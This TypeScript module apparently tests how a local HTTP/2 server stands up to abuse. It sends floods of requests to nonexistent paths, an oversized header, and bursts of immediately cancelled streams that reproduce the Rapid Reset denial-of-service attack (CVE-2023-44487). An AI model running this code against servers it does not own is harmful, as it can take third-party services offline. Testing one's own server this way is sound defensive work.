import { connect, constants, type ClientHttp2Session } from 'node:http2';
import { happens, whateverHappens, type Ledger } from './ledger.ts';

const requests = 300;
const perBurst = 100;

/**
 * A client that speaks HTTP/2 well, to a server that serves something else: paths that are not there, headers without
 * bounds, and streams that are reset as soon as they are open (CVE-2023-44487). Reached: answered, or thrown out.
 */
export async function attackHttp2(port: number, ledger: Ledger): Promise<void> {
  await over(port, async (session) => {
    const kind = 'HTTP/2: paths that are not there';
    await Promise.all(
      Array.from({ length: requests }, async (_, i) => {
        ledger.made(kind);
        const stream = session.request({
          ':path': `/nothing/${i}`,
          ':method': 'POST',
          'content-type': 'application/grpc',
        });
        stream
          .on('error', () => undefined)
          .resume()
          .end();
        if ((await whateverHappens(happens(stream, 'response', 'close'), 5000)) !== undefined) ledger.reached(kind);
        stream.close();
      }),
    );
  });
  await over(port, async (session) => {
    const kind = 'HTTP/2: headers without bounds';
    ledger.made(kind);
    const stream = session.request({ ':path': '/', 'x-long': 'a'.repeat(60_000) });
    stream.on('error', () => undefined).resume();
    if ((await whateverHappens(happens(stream, 'response', 'close'), 5000)) !== undefined) ledger.reached(kind);
  });
  await over(port, async (session) => {
    const kind = 'HTTP/2: streams reset at once';
    for (let burst = 0; burst < 10 && !session.destroyed; burst++) {
      const closing = Array.from({ length: perBurst }, () => {
        ledger.made(kind);
        const stream = session.request({ ':path': '/roundscope.v1.Federation/Session', ':method': 'POST' });
        stream.on('error', () => undefined).close(constants.NGHTTP2_CANCEL);
        return happens(stream, 'close').then(() => ledger.reached(kind));
      });
      await whateverHappens(Promise.all(closing), 5000);
    }
  });
}

async function over(port: number, attack: (session: ClientHttp2Session) => Promise<void>): Promise<void> {
  const session = connect(`https://127.0.0.1:${port}`, { rejectUnauthorized: false });
  session.on('error', () => undefined).on('goaway', () => undefined);
  await whateverHappens(happens(session, 'connect', 'close'), 10_000);
  await whateverHappens(attack(session), 20_000);
  session.destroy();
}
